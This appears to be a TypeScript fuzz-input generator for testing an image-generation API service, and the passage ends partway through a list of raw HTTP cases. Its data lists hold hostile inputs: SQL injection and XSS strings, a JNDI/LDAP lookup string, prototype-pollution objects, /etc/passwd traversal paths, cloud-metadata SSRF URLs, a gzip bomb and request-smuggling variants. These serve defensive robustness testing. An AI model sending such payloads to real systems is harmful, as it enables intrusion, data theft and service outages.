/**
 * The hostile-input generator shared by the fuzz test (test/fuzz/fuzz.test.ts)
 * and the long benchmark run (bench/fuzz.ts).
 *
 * Every case is a pure function of (seed, index): a failure found at case
 * 81,234 of a 100,000-case run is replayed by generating that one index,
 * without the 81,233 before it. Bodies are built from a small JSON value
 * model (`Obj` keeps entries as pairs) because plain objects cannot carry
 * duplicate keys, an own `__proto__` key or number literals JavaScript cannot
 * hold (`1e400`, `-0`), and those are exactly what a hostile caller sends.
 */
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';

// ---------------------------------------------------------------- randomness

/** mulberry32: 32 bits of state, good enough spread for picking mutations, and trivially reproducible. */
export function mulberry32(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Mixes the run seed with the case index so neighbouring indexes do not get correlated streams. */
export function caseSeed(seed: number, index: number): number {
  let h = (seed ^ 0x9e3779b9) >>> 0;
  h = Math.imul(h ^ (index + 0x632be5ab), 0x85ebca6b) >>> 0;
  h = Math.imul(h ^ (h >>> 13), 0xc2b2ae35) >>> 0;
  return (h ^ (h >>> 16)) >>> 0;
}

export class Rng {
  private readonly next: () => number;
  constructor(seed: number) {
    this.next = mulberry32(seed);
  }
  float(): number {
    return this.next();
  }
  /** Inclusive bounds. */
  int(min: number, max: number): number {
    return min + Math.floor(this.next() * (max - min + 1));
  }
  chance(p: number): boolean {
    return this.next() < p;
  }
  pick<T>(items: readonly T[]): T {
    if (items.length === 0) throw new Error('pick from an empty list');
    return items[Math.floor(this.next() * items.length)] as T;
  }
  weighted<T>(items: ReadonlyArray<readonly [number, T]>): T {
    const total = items.reduce((s, [w]) => s + w, 0);
    let x = this.next() * total;
    for (const [w, v] of items) {
      x -= w;
      if (x < 0) return v;
    }
    return items[items.length - 1]![1];
  }
  shuffle<T>(items: T[]): T[] {
    for (let i = items.length - 1; i > 0; i--) {
      const j = Math.floor(this.next() * (i + 1));
      [items[i], items[j]] = [items[j]!, items[i]!];
    }
    return items;
  }
}

// ---------------------------------------------------------------- JSON value model

/** JSON text emitted verbatim: numbers JavaScript cannot hold, deep nesting built as text. */
export class Raw {
  constructor(readonly text: string) {}
}

/** A JSON object as an ordered list of entries: duplicates and `__proto__` are just entries. */
export class Obj {
  constructor(public entries: Array<[string, Val]> = []) {}
  has(key: string): boolean {
    return this.entries.some(([k]) => k === key);
  }
  get(key: string): Val | undefined {
    return this.entries.find(([k]) => k === key)?.[1];
  }
  set(key: string, value: Val): this {
    const at = this.entries.findIndex(([k]) => k === key);
    if (at >= 0) this.entries[at] = [key, value];
    else this.entries.push([key, value]);
    return this;
  }
  delete(key: string): this {
    this.entries = this.entries.filter(([k]) => k !== key);
    return this;
  }
  keys(): string[] {
    return this.entries.map(([k]) => k);
  }
}

export type Val = null | boolean | number | string | Raw | Obj | Val[];

export function obj(fields: Record<string, Val>): Obj {
  return new Obj(Object.entries(fields));
}

export function toJson(v: Val): string {
  if (v instanceof Raw) return v.text;
  if (v instanceof Obj) return `{${v.entries.map(([k, x]) => `${JSON.stringify(k)}:${toJson(x)}`).join(',')}}`;
  if (Array.isArray(v)) return `[${v.map(toJson).join(',')}]`;
  return JSON.stringify(v);
}

// ---------------------------------------------------------------- cases

export interface FuzzCase {
  index: number;
  /** Which generator and mutators made it, for humans reading a failure. */
  label: string;
  method: string;
  path: string;
  headers: Record<string, string | string[]>;
  body: Buffer | string | undefined;
  /**
   * `valid`: the service must answer 200 with the images asked for.
   * `refused`: the request carries text no database can store as sent; the
   * service must answer it with a 4xx, having stored nothing.
   */
  expect?: 'valid' | 'refused';
  /** Images a valid request asks for. */
  images?: number;
  /**
   * Bytes written to a bare socket instead of going through node:http, for
   * what no conforming client can send (conflicting lengths, control
   * characters in headers, unknown methods...). method/path/headers above
   * then only describe it.
   */
  raw?: Buffer;
  /** The raw request is deliberately incomplete: the server may hang up without answering. */
  mayHangUp?: boolean;
}

export interface GeneratorOptions {
  /** A user key and an admin key the service accepts. */
  userKey: string;
  adminKey: string;
  /** A second user key (for cross-key requests). */
  otherKey?: string;
  /** The service's body limit; big-body cases straddle it. Default 1 MiB. */
  maxBodyBytes?: number;
}

export const TURBO = 'alibaba/z-image-turbo';
export const LORA = 'alibaba/z-image-turbo-lora';
export const IMAGES_PATH = '/v1/images/generations';
/** The sentinel a pollution payload tries to plant on Object.prototype. */
export const POLLUTION_MARK = 'polluted';

const PRESETS: ReadonlyArray<readonly [string, number, number]> = [
  ['square_hd', 1024, 1024],
  ['square', 512, 512],
  ['portrait_4_3', 768, 1024],
  ['portrait_16_9', 576, 1024],
  ['landscape_4_3', 1024, 768],
  ['landscape_16_9', 1024, 576],
];

const PROMPTS: readonly string[] = [
  'a lighthouse at dawn',
  'two paper boats on a pond',
  '夕暮れの灯台、水彩画',
  'ein Leuchtturm – bei Sonnenaufgang, «Öl auf Leinwand»',
  '🌅🗼 sunrise over a tower 🌊',
  'منارة عند الفجر',
  'Z̸̢̛a̷l̶g̵o̵ ̷t̷e̶x̷t̸ on a sign',
  '  leading and trailing spaces  ',
  'tabs\tand\nnewlines\r\nin the prompt',
  'bell \u0007 and escape \u001b[31m red',
  'noncharacters \uffff\ufffe and the last code point \u{10ffff}',
  'a pair 🙂 and a BOM \ufeff inside',
  'right-to-left \u202e override \u202c and zero\u200bwidth',
  '<script>alert(1)</script> a cat',
  "'; DROP TABLE usage; -- a dog",
  '${jndi:ldap://example.invalid/a} %s%n%x {{7*7}}',
  'x',
  'y'.repeat(4000),
  '🙂'.repeat(4000),
  'é'.repeat(3999) + '!',
];

const LORA_PATHS: readonly string[] = [
  'owner/repo',
  'Owner-1/repo.name_2',
  'owner/repo/sub/dir/weights.safetensors',
  'https://huggingface.co/owner/repo/resolve/main/weights.safetensors',
  'https://example.com:8443/w?x=1#frag',
  // Not a fal CDN URL: like real fal, the emulator fails a job whose LoRA is a
  // CDN file that does not exist, so no made-up fal.media URL is valid input.
  'https://cdn.example.org/files/lora/abc.safetensors',
];

const CASE_VARIANTS = (s: string): string[] => [s.toUpperCase(), s[0]!.toUpperCase() + s.slice(1), ` ${s}`, `${s} `, `${s}\u0000`];

/** A request the service must accept, for either model, in either dialect. */
export function validRequest(r: Rng): { body: Obj; images: number } {
  const lora = r.chance(0.4);
  const o = new Obj();
  o.set('model', lora ? r.pick([LORA, LORA, 'fal-ai/z-image/turbo/lora']) : r.pick([TURBO, TURBO, 'fal-ai/z-image/turbo']));
  o.set('prompt', r.pick(PROMPTS));

  const [preset, pw, ph] = r.pick(PRESETS);
  const side = () => 32 * r.int(16, 64);
  switch (r.pick(['none', 'preset', 'custom', 'size', 'auto', 'both'] as const)) {
    case 'none':
      break;
    case 'preset':
      o.set('image_size', preset);
      break;
    case 'custom':
      o.set('image_size', obj({ width: side(), height: side() }));
      break;
    case 'size':
      o.set('size', `${side()}x${side()}`);
      break;
    case 'auto':
      o.set('size', 'auto');
      if (r.chance(0.5)) o.set('image_size', preset);
      break;
    case 'both':
      o.set('image_size', r.chance(0.5) ? preset : obj({ width: pw, height: ph }));
      o.set('size', `${pw}x${ph}`);
      break;
  }

  let images = 1;
  const count = r.weighted([
    [6, 1],
    [2, 2],
    [1, 3],
    [1, 4],
  ] as const);
  switch (r.pick(['none', 'n', 'num_images', 'both', 'n_null'] as const)) {
    case 'none':
      break;
    case 'n':
      o.set('n', count);
      images = count;
      break;
    case 'num_images':
      o.set('num_images', count);
      images = count;
      break;
    case 'both':
      o.set('n', count).set('num_images', count);
      images = count;
      break;
    case 'n_null':
      o.set('n', null);
      break;
  }

  if (r.chance(0.3)) o.set('num_inference_steps', r.int(1, 8));
  if (r.chance(0.3)) o.set('seed', r.pick([1, r.int(1, 2 ** 31), Number.MAX_SAFE_INTEGER]));
  if (r.chance(0.3)) o.set('output_format', r.pick(['png', 'jpeg', 'webp', null]));
  if (r.chance(0.3)) o.set('response_format', r.pick(['url', 'b64_json', null]));
  if (r.chance(0.2)) o.set('enable_safety_checker', r.chance(0.5));
  if (r.chance(0.2)) o.set('enable_prompt_expansion', r.chance(0.5));
  if (r.chance(0.2)) o.set('acceleration', r.pick(['none', 'regular', 'high']));
  if (!lora && r.chance(0.2)) o.set('provider', r.pick(['fal', 'auto', 'FAL', 'Auto', 'fAl']));
  if (lora && r.chance(0.8)) {
    const items: Val[] = [];
    for (let i = r.int(0, 3); i > 0; i--) {
      const item = obj({ path: r.pick(LORA_PATHS) });
      if (r.chance(0.6)) item.set('scale', r.pick([0, 1, 4, Math.round(r.float() * 4000) / 1000]));
      items.push(item);
    }
    o.set('loras', items);
  }
  if (r.chance(0.2)) o.set('user', r.pick(['user-1', 'ユーザー', 'u'.repeat(256), '', 'a\u0001b', '\u{1f600}'.repeat(128)]));
  // OpenAI's hints (class 3 of the field policy): accepted, and declared back.
  if (r.chance(0.1)) o.set('quality', r.pick(['auto', 'standard', 'hd', 'low', 'medium', 'high', null]));
  if (r.chance(0.1)) o.set('background', r.pick(['auto', null]));
  if (r.chance(0.1)) o.set('moderation', r.pick(['auto', 'low', null]));
  if (r.chance(0.1)) o.set('output_compression', r.pick([0, 55, 100, null]));
  if (r.chance(0.1)) o.set('partial_images', r.pick([0, 3, null]));
  if (r.chance(0.1)) o.set('stream', r.pick([false, null]));
  if (r.chance(0.05)) o.set('style', r.pick(['vivid', 'natural', null]));
  r.shuffle(o.entries);
  return { body: o, images };
}

// ---------------------------------------------------------------- hostile values

const NUMBER_FIELDS = ['num_images', 'n', 'num_inference_steps', 'seed', 'output_compression', 'partial_images'] as const;
const STRING_FIELDS = ['prompt', 'model', 'size', 'user', 'provider', 'acceleration', 'output_format', 'response_format', 'quality', 'background', 'moderation'] as const;
const BOOL_FIELDS = ['enable_safety_checker', 'enable_prompt_expansion', 'stream'] as const;
const ALL_FIELDS = [...NUMBER_FIELDS, ...STRING_FIELDS, ...BOOL_FIELDS, 'image_size', 'loras', 'style'] as const;

function deepArray(depth: number): Raw {
  return new Raw('['.repeat(depth) + ']'.repeat(depth));
}
function deepObject(depth: number, key = 'a'): Raw {
  return new Raw(`{${JSON.stringify(key)}:`.repeat(depth) + '1' + '}'.repeat(depth));
}

function pollutionPayload(r: Rng): Val {
  return r.pick<Val>([
    obj({ [POLLUTION_MARK]: 'yes' }),
    obj({ prototype: obj({ [POLLUTION_MARK]: 'yes' }) }),
    new Obj([['__proto__', obj({ [POLLUTION_MARK]: 'yes' })]]),
    new Obj([['constructor', obj({ prototype: obj({ [POLLUTION_MARK]: 'yes' }) })]]),
    [obj({ [POLLUTION_MARK]: 'yes' })],
  ]);
}

const NUMBER_EDGES: readonly Val[] = [
  0, -0, -1, 1, 2, 3, 4, 5, 8, 9, 31, 32, 100, 101, 511, 512, 2048, 2049, 0.5, 1.5, -0.5, 3.9999999, 4.0000001,
  2 ** 31, 2 ** 32, 2 ** 53, 2 ** 53 + 2, -(2 ** 53), Number.MAX_SAFE_INTEGER, Number.MAX_SAFE_INTEGER + 1, 1e21, 1e308, -1e308, 5e-324,
  new Raw('-0'), new Raw('4.0'), new Raw('1.0'), new Raw('1e0'), new Raw('0.1e1'), new Raw('1E+0'), new Raw('1e400'), new Raw('-1e400'),
  new Raw('1e-400'), new Raw('123456789012345678901234567890'), new Raw('9007199254740993'), new Raw('0.0000000000000000000001'),
  'NaN', 'Infinity', '-Infinity', '1', '4', '1e3', '0x10', '١', ' 1', '',
];

const STRING_EDGES: readonly Val[] = [
  '', ' ', '\t\n\r', '\u00a0', '\u3000', '\u200b', 'x', 'x'.repeat(257), 'x'.repeat(4001), 'x'.repeat(70_000),
  '🙂'.repeat(4001), 'NaN', 'null', 'undefined', 'true', '0', '-1', '__proto__', 'constructor', 'toString',
  '\u0000', 'a\u0000b', '\u001b[2J', '\ud800', '\udfff\ud800', '\u202e', '\ufeff', '\uffff', '𝕏𝕐', 'Ǆ', 'ß', 'İ',
  '../../../etc/passwd', 'C:\\Windows', '%00', '%s%n', "' OR 1=1 --", '<img src=x onerror=alert(1)>', 'https://169.254.169.254/',
];

const HOSTILE_VALUES: readonly Val[] = [
  null, true, false, [], [null], [1, 2, 3], new Obj(), obj({ '': 1 }), obj({ width: 1024 }),
  ...NUMBER_EDGES.slice(0, 20), ...STRING_EDGES.slice(0, 20), deepArray(3), deepObject(3),
];

const UNKNOWN_KEYS: readonly string[] = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', '__lookupSetter__',
  'isPrototypeOf', '', ' ', 'Model', 'PROMPT', 'model ', ' model', 'num_images\u0000', 'ñ', '🔑', '\u202emodel', 'a.b', 'a/b', '$ref',
  'loras', 'provider', 'guidance_scale', 'negative_prompt', 'sync_mode', 'image_url', 'webhook', 'fal_key', 'k'.repeat(100), 'k'.repeat(101),
  'k'.repeat(150), 'k'.repeat(5000), 'line\nbreak', 'quote"key', 'back\\slash', '\ud800',
];

const BAD_LORA_PATHS: readonly string[] = [
  'http://example.com/w.safetensors', 'file:///etc/passwd', '../../etc/passwd', '/etc/passwd', 'owner/../repo', 'owner/repo/../../x.safetensors',
  'C:\\loras\\x.safetensors', '\\\\server\\share\\x', 'https://user:pw@example.com/x', 'https://169.254.169.254/latest/meta-data', 'owner',
  'owner/repo/file.bin', `https://${'a'.repeat(3000)}.com/x`, 'javascript:alert(1)', 'data:application/octet-stream;base64,AAAA', 'ftp://x/y',
  'https://', 'owner/repo/', ' owner/repo', 'owner/repo\n', 'owner/ repo', 'https://example.com/\u0000', '.hidden/repo',
];

const BAD_MODELS: readonly string[] = [
  '', 'ALIBABA/Z-IMAGE-TURBO', ' alibaba/z-image-turbo', 'alibaba/z-image-turbo ', 'alibaba/z-image', 'alibaba/z-image-turbo/', 'dall-e-3',
  'gpt-image-1', 'fal-ai/z-image/base', 'fal-ai/flux/dev', 'z-image-turbo', '__proto__', 'constructor', 'toString', 'hasOwnProperty',
  'alibaba/z-image-turbo\u0000', 'alibaba/z-image-turbo-lora\n', 'x'.repeat(10_000), 'alibaba/z\u2010image\u2010turbo',
];

// ---------------------------------------------------------------- body mutators

type BodyMutator = (r: Rng, o: Obj) => string;

function someField(r: Rng, o: Obj, pool: readonly string[]): string {
  const present = o.keys().filter((k) => pool.includes(k));
  return present.length > 0 && r.chance(0.6) ? r.pick(present) : r.pick(pool);
}

const BODY_MUTATORS: ReadonlyArray<readonly [number, string, BodyMutator]> = [
  [6, 'wrong_type', (r, o) => {
    const f = someField(r, o, ALL_FIELDS);
    o.set(f, r.pick(HOSTILE_VALUES));
    return f;
  }],
  [5, 'number_edge', (r, o) => {
    const f = someField(r, o, NUMBER_FIELDS);
    o.set(f, r.pick(NUMBER_EDGES));
    return f;
  }],
  [5, 'string_edge', (r, o) => {
    const f = someField(r, o, STRING_FIELDS);
    const current = o.get(f);
    o.set(f, typeof current === 'string' && current !== '' && r.chance(0.3) ? r.pick(CASE_VARIANTS(current)) : r.pick(STRING_EDGES));
    return f;
  }],
  [2, 'remove_required', (r, o) => {
    const f = r.pick(['model', 'prompt']);
    o.delete(f);
    return f;
  }],
  [5, 'unknown_key', (r, o) => {
    const k = r.pick(UNKNOWN_KEYS);
    o.entries.splice(r.int(0, o.entries.length), 0, [k, r.chance(0.5) ? pollutionPayload(r) : r.pick(HOSTILE_VALUES)]);
    return k.length > 20 ? `${k.slice(0, 20)}...` : k;
  }],
  [3, 'nested_pollution', (r, o) => {
    const where = r.pick(['image_size', 'loras', 'value'] as const);
    const payload = new Obj([[r.pick(['__proto__', 'constructor', 'prototype']), pollutionPayload(r)]]);
    if (where === 'image_size') {
      payload.entries.push(['width', 1024], ['height', 1024]);
      r.shuffle(payload.entries);
      o.set('image_size', payload);
    } else if (where === 'loras') {
      payload.entries.push(['path', 'owner/repo']);
      o.set('loras', [payload]);
    } else {
      o.set(someField(r, o, ALL_FIELDS), payload);
    }
    return where;
  }],
  [3, 'deep_nesting', (r, o) => {
    const depth = r.pick([64, 1000, 10_000, 100_000]);
    const f = someField(r, o, [...ALL_FIELDS, 'deep']);
    const deep = r.chance(0.5) ? deepArray(depth) : deepObject(depth, r.pick(['a', '__proto__', 'width']));
    o.set(f, f === 'loras' && r.chance(0.5) ? [deep] : deep);
    return `${f}@${depth}`;
  }],
  [3, 'model_swap', (r, o) => {
    const current = o.get('model');
    o.set('model', r.chance(0.3) ? (current === TURBO ? LORA : TURBO) : r.chance(0.2) ? r.pick(HOSTILE_VALUES) : r.pick(BAD_MODELS));
    return 'model';
  }],
  [4, 'loras', (r, o) => {
    const item = (): Val => {
      const it = obj({ path: r.chance(0.7) ? r.pick(BAD_LORA_PATHS) : r.pick(LORA_PATHS) });
      if (r.chance(0.5)) it.set('scale', r.chance(0.7) ? r.pick(NUMBER_EDGES) : r.pick(HOSTILE_VALUES));
      if (r.chance(0.2)) it.set(r.pick(['weight_name', '__proto__', 'constructor', 'Path', '']), r.pick(HOSTILE_VALUES));
      if (r.chance(0.1)) it.delete('path');
      return r.chance(0.1) ? r.pick(HOSTILE_VALUES) : it;
    };
    const n = r.weighted([
      [6, 1],
      [2, 3],
      [2, 4],
      [1, 50],
    ] as const);
    o.set('loras', r.chance(0.1) ? r.pick(HOSTILE_VALUES) : Array.from({ length: n }, item));
    return `loras×${n}`;
  }],
  [3, 'dialect_conflict', (r, o) => {
    if (r.chance(0.5)) {
      o.set('n', r.int(1, 4)).set('num_images', r.int(1, 4));
      return 'n/num_images';
    }
    const [preset] = r.pick(PRESETS);
    o.set('image_size', r.chance(0.5) ? preset : obj({ width: 32 * r.int(16, 64), height: 32 * r.int(16, 64) }));
    o.set('size', `${32 * r.int(10, 70)}x${32 * r.int(10, 70)}`);
    return 'size/image_size';
  }],
  [2, 'nulls', (r, o) => {
    const f = someField(r, o, ALL_FIELDS);
    o.set(f, null);
    return f;
  }],
  [1, 'key_flood', (r, o) => {
    const n = r.pick([100, 1000, 20_000]);
    for (let i = 0; i < n; i++) o.entries.push([`f${i}`, i]);
    return `${n} keys`;
  }],
  [2, 'long_prompt', (r, o) => {
    const n = r.pick([4000, 4001, 10_000, 300_000]);
    o.set('prompt', r.pick(['x', '🙂', 'é', ' ', '\u0000']).repeat(n));
    return `prompt×${n}`;
  }],
  [2, 'duplicate_key', (r, o) => {
    const k = r.pick([...o.keys(), 'model', 'n', 'prompt']);
    o.entries.push([k, r.chance(0.5) ? r.pick(HOSTILE_VALUES) : r.pick(NUMBER_EDGES)]);
    return k;
  }],
];

// ---------------------------------------------------------------- text mutators

type TextMutator = (r: Rng, text: string) => Buffer | string;

const TEXT_MUTATORS: ReadonlyArray<readonly [number, string, TextMutator]> = [
  [4, 'truncate', (r, t) => Buffer.from(t).subarray(0, r.int(0, Math.max(0, Buffer.byteLength(t) - 1)))],
  [3, 'byte_noise', (r, t) => {
    const b = Buffer.from(t);
    const noise = [0x00, 0xff, 0xfe, 0xc0, 0xed, 0x80, 0x22, 0x7b, 0x7d, 0x5c, 0x2c, 0x3a, 0x0a, 0x1f];
    for (let i = r.int(1, 4); i > 0 && b.length > 0; i--) b[r.int(0, b.length - 1)] = r.pick(noise);
    return b;
  }],
  [2, 'scalar_body', (r, t) => r.pick(['null', 'true', '0', '-1', '"a string"', '[]', '{}', `[${t}]`, `"${t.replace(/"/g, '\\"')}"`, '1e400', '""'])],
  [2, 'empty_body', (r) => r.pick(['', ' ', '\n', '\u0000', '\ufeff'])],
  [2, 'json_extensions', (r, t) => {
    switch (r.int(0, 6)) {
      case 0: return `${t.slice(0, -1)},}`;
      case 1: return `/* c */${t}`;
      case 2: return t.replace(/"/g, "'");
      case 3: return t.replace(/"([a-z_]+)":/g, '$1:');
      case 4: return `${t.slice(0, -1)},"n":NaN}`;
      case 5: return `${t}${r.pick([' x', ',', '}', '\u0000', '{}', t])}`;
      default: return `${t.slice(0, -1)},"seed":Infinity}`;
    }
  }],
  [1, 'bom', (_r, t) => `\ufeff${t}`],
  [1, 'bad_utf8', (r, t) => {
    const at = t.indexOf('"prompt":"');
    const seq = r.pick([[0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xf8, 0x88, 0x80, 0x80, 0x80], [0xff], [0xe2, 0x82]]);
    if (at < 0) return Buffer.concat([Buffer.from(seq), Buffer.from(t)]);
    const cut = Buffer.byteLength(t.slice(0, at + 10));
    const b = Buffer.from(t);
    return Buffer.concat([b.subarray(0, cut), Buffer.from(seq), b.subarray(cut)]);
  }],
  [1, 'utf16', (r, t) => {
    const body = Buffer.from(t, 'utf16le');
    return r.chance(0.5) ? Buffer.concat([Buffer.from([0xff, 0xfe]), body]) : body;
  }],
  [1, 'deep_body', (r) => r.pick([deepArray(100_000).text, deepObject(50_000).text, '['.repeat(200_000), '{"a":'.repeat(100_000)])],
];

// ---------------------------------------------------------------- header mutators

const CONTENT_TYPES: readonly (string | string[] | undefined)[] = [
  undefined, '', 'text/plain', 'text/json', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/JSON',
  'Application/Json; Charset=UTF-8', 'application/json;charset=utf-8', 'application/json; charset=latin1', 'application/json; charset=iso-8859-1',
  'application/json; charset=utf-16le', 'application/json; charset=utf-16', 'application/json; charset=bogus-42', 'application/json; charset=',
  'application/json; charset="utf-8"', 'application/json; charset="', 'application/json; foo', 'application/json;;;', 'application/json; ==',
  'application/vnd.api+json', 'application/merge-patch+json', 'application/jsonx', 'json', '*/*', 'application/*', 'application/json, text/plain',
  ['text/plain', 'application/json'], ['application/json', 'text/plain'], `application/json; x=${'a'.repeat(4000)}`, 'application/jsón',
  'application/json\t', 'application/json ; charset = utf-8',
];

let bomb: Buffer | undefined;
/** 20 MiB of spaces in about 20 KB: inflates past any body limit. Made once; compressing it costs 100 ms. */
function gzipBomb(): Buffer {
  bomb ??= gzipSync(Buffer.alloc(20 * 1024 * 1024, 0x20), { level: 9 });
  return bomb;
}

type HeaderMutator = (r: Rng, h: Record<string, string | string[]>, body: { current: Buffer | string }, opts: GeneratorOptions) => string;

const HEADER_MUTATORS: ReadonlyArray<readonly [number, string, HeaderMutator]> = [
  [5, 'content_type', (r, h) => {
    const ct = r.pick(CONTENT_TYPES);
    if (ct === undefined) delete h['content-type'];
    else h['content-type'] = ct;
    return String(ct).slice(0, 40);
  }],
  [3, 'content_encoding', (r, h, body) => {
    const kind = r.pick(['gzip', 'deflate', 'br', 'gzip_garbage', 'deflate_garbage', 'br_garbage', 'bomb', 'identity', 'compress', 'zstd', 'x-gzip', 'GZIP', 'gzip, gzip', ''] as const);
    const raw = Buffer.from(body.current);
    switch (kind) {
      case 'gzip':
        body.current = gzipSync(raw);
        h['content-encoding'] = 'gzip';
        break;
      case 'deflate':
        body.current = deflateSync(raw);
        h['content-encoding'] = 'deflate';
        break;
      case 'br':
        body.current = brotliCompressSync(raw);
        h['content-encoding'] = 'br';
        break;
      case 'gzip_garbage':
      case 'deflate_garbage':
      case 'br_garbage':
        h['content-encoding'] = kind.split('_')[0]!;
        // A valid stream cut short, or plain text: both must fail to inflate.
        if (r.chance(0.5)) body.current = gzipSync(raw).subarray(0, 12);
        break;
      case 'bomb':
        body.current = gzipBomb();
        h['content-encoding'] = 'gzip';
        break;
      default:
        h['content-encoding'] = kind;
    }
    return kind;
  }],
  [4, 'authorization', (r, h, _b, opts) => {
    const key = opts.userKey;
    const v = r.pick<string | string[] | undefined>([
      undefined, '', 'Bearer', 'Bearer ', `Bearer sk-wrong-${'0'.repeat(16)}`, `bearer ${key}`, `BEARER   ${key}   `, `Basic ${key}`,
      `Bearer ${key}x`, `Bearer ${'k'.repeat(600)}`, `Bearer ${key}, Bearer ${opts.adminKey}`, [`Bearer ${key}`, 'Bearer nope'],
      ['Bearer nope', `Bearer ${key}`], `Token ${key}`, `Bearer ${opts.adminKey}`, `Bearer ${opts.otherKey ?? key}`, `Bearer\t${key}`,
      `Bearer ${key}\u00e9`,
    ]);
    if (v === undefined) delete h['authorization'];
    else h['authorization'] = v;
    return typeof v === 'string' ? v.replace(/sk-[\w-]+/g, 'sk-…').slice(0, 30) : String(v);
  }],
  [2, 'request_id', (r, h) => {
    h['x-request-id'] = r.pick<string | string[]>(['short', 'abc-123-xyz-789', 'x'.repeat(200), 'with spaces in it', '../../etc/passwd', 'é-request-0001', ['req-aaaaaaaa', 'req-bbbbbbbb'], '']);
    return 'x-request-id';
  }],
  [3, 'idempotency_key', (r, h) => {
    h['idempotency-key'] = r.pick<string | string[]>([
      `idem-${r.int(0, 1e9)}`, `idem-shared-${r.int(0, 3)}`, '', ' ', 'x'.repeat(256), 'with space', 'é', ['idem-a', 'idem-b'], '\t',
    ]);
    return 'idempotency-key';
  }],
  [2, 'odd_headers', (r, h) => {
    const name = r.pick(['accept', 'accept-encoding', 'host', 'x-forwarded-for', 'x-forwarded-proto', 'expect', 'transfer-encoding', 'origin', 'cookie', 'x-http-method-override', 'range', 'if-none-match', 'te', 'upgrade']);
    const v = r.pick(['text/html', '*', '', 'gzip;q=0', 'evil.example', '127.0.0.1, 10.0.0.1', 'https', '100-continue', 'chunked', 'null', 'a=b; __proto__=x', 'GET', 'bytes=0-1', '"x"', 'trailers', 'h2c', 'é']);
    // node:http writes these two itself; a raw case covers their hostile forms.
    if (name === 'transfer-encoding' && v !== 'chunked') return name;
    if (name === 'upgrade' || name === 'te') h['connection'] = 'keep-alive';
    h[name] = v;
    return `${name}: ${v}`;
  }],
];

// ---------------------------------------------------------------- paths and methods

const METHODS_NOT_POST: readonly string[] = ['GET', 'PUT', 'PATCH', 'DELETE', 'HEAD', 'OPTIONS', 'PROPFIND', 'PURGE', 'SEARCH', 'FOO', 'QUERY', 'MKCOL', 'LOCK'];

const ODD_PATHS: readonly string[] = [
  '/v1/images/generations/', '/v1/images/generations//', '//v1/images/generations', '/V1/IMAGES/GENERATIONS', '/v1/images/generations?',
  '/v1/images/generations?x=1&x=2', `/v1/images/generations?__proto__[${POLLUTION_MARK}]=1`, `/v1/images/generations?constructor[prototype][${POLLUTION_MARK}]=1`,
  '/v1/images/generations#frag', '/v1/images/%67enerations', '/v1/images/generations%2F', '/v1/images/generations/%ZZ', '/v1/images/generations/..',
  '/v1/images/./generations', '/v1/images', '/v1', '/', '/%', '/%00', '/%ZZ', '/%C0%AF', '/v1/images/generations;jsessionid=1', '/api/v1/images/generations',
  '/v1/files/%ZZ', '/v1/files/v3.fal.media/%ZZ', '/v1/files/v3.fal.media/files/emulated/x.png', '/v1/files/../../etc/passwd', '/v1/files/v3.fal.media/..%2F..%2Fadmin',
  '/v1/files/evil.example/x', '/v1/files/v3.fal.media/%00', '/v1/files/', `/v1/files/v3.fal.media/${'a'.repeat(5000)}`, '/v1/files/169.254.169.254/latest',
  '/v1/files/v3.fal.media/files/emulated/%2e%2e%2f%2e%2e%2fadmin', '/v1/admin/keys/%ZZ', '/v1/admin/%ZZ', '/v1/admin', '/v1/admin/keys/__proto__',
  '/v1/admin/keys/constructor', '/v1/usage?from=%ZZ', '/v1/models', '/healthz/..', `/${'a'.repeat(10_000)}`, '/v1/images/generations?' + 'a=1&'.repeat(2000),
  '/\u00e9', '/v1/usage?model=%F0%9F%99%82',
];

const USAGE_PARAMS: readonly string[] = ['from', 'to', 'model', 'key_id', 'group_by', 'format', 'unknown', `__proto__[${POLLUTION_MARK}]`, 'constructor[prototype]', 'from[]', ''];
const USAGE_VALUES: readonly string[] = [
  '2025-01-01', '2025-01-01T00:00:00Z', '2025-13-45', '9999999999999', '-1', '', 'NaN', '%ZZ', '%00', 'a%00b', '%ED%A0%80', '%C0%80', 'x'.repeat(300), 'day', 'model', 'key', 'json',
  'csv', 'jsonl', 'xml', TURBO, '1970-01-01T00:00:00.000Z', '+275760-09-13T00:00:00.000Z', '2025-01-01T00:00:00+99:99', '%F0%9F%99%82', '__proto__',
];

function usageQuery(r: Rng): string {
  const parts: string[] = [];
  for (let i = r.int(0, 4); i > 0; i--) parts.push(`${r.pick(USAGE_PARAMS)}=${r.pick(USAGE_VALUES)}`);
  return parts.length > 0 ? `?${parts.join('&')}` : '';
}

function keyBody(r: Rng): Obj {
  const o = obj({ name: r.pick(['ci key', 'ключ', 'k'.repeat(200)]) });
  if (r.chance(0.5)) o.set('role', r.pick(['user', 'admin']));
  if (r.chance(0.5)) o.set('budget_usd', r.pick<Val>([1, 12.5, '12.500000', null, 0]));
  if (r.chance(0.5)) o.set('rpm_limit', r.pick<Val>([1, 60, 1_000_000, null]));
  const n = r.int(0, 2);
  for (let i = 0; i < n; i++) {
    const f = r.pick(['name', 'role', 'budget_usd', 'rpm_limit', 'enabled', ...UNKNOWN_KEYS.slice(0, 10)]);
    o.set(f, r.chance(0.5) ? r.pick(HOSTILE_VALUES) : r.pick([...NUMBER_EDGES, ...STRING_EDGES]));
  }
  return o;
}

// ---------------------------------------------------------------- raw protocol cases

function rawRequest(r: Rng, opts: GeneratorOptions): { label: string; raw: Buffer; method: string; path: string; mayHangUp?: boolean } {
  const body = toJson(validRequest(r).body);
  const len = Buffer.byteLength(body);
  const base = (lines: string[], b: string | Buffer = body) => Buffer.concat([Buffer.from(`${lines.join('\r\n')}\r\n\r\n`, 'latin1'), Buffer.from(b)]);
  const std = [`Host: fuzz`, `Authorization: Bearer ${opts.userKey}`, 'Content-Type: application/json', 'Connection: close'];
  const kind = r.pick([
    'dup_length', 'length_and_chunked', 'bad_chunk', 'ctl_in_header', 'bad_header_name', 'bare_lf', 'obs_fold', 'http10', 'http2_line', 'bad_version',
    'lower_method', 'unknown_method', 'header_overflow', 'many_headers', 'space_in_path', 'utf8_path', 'absolute_uri', 'options_star', 'negative_length',
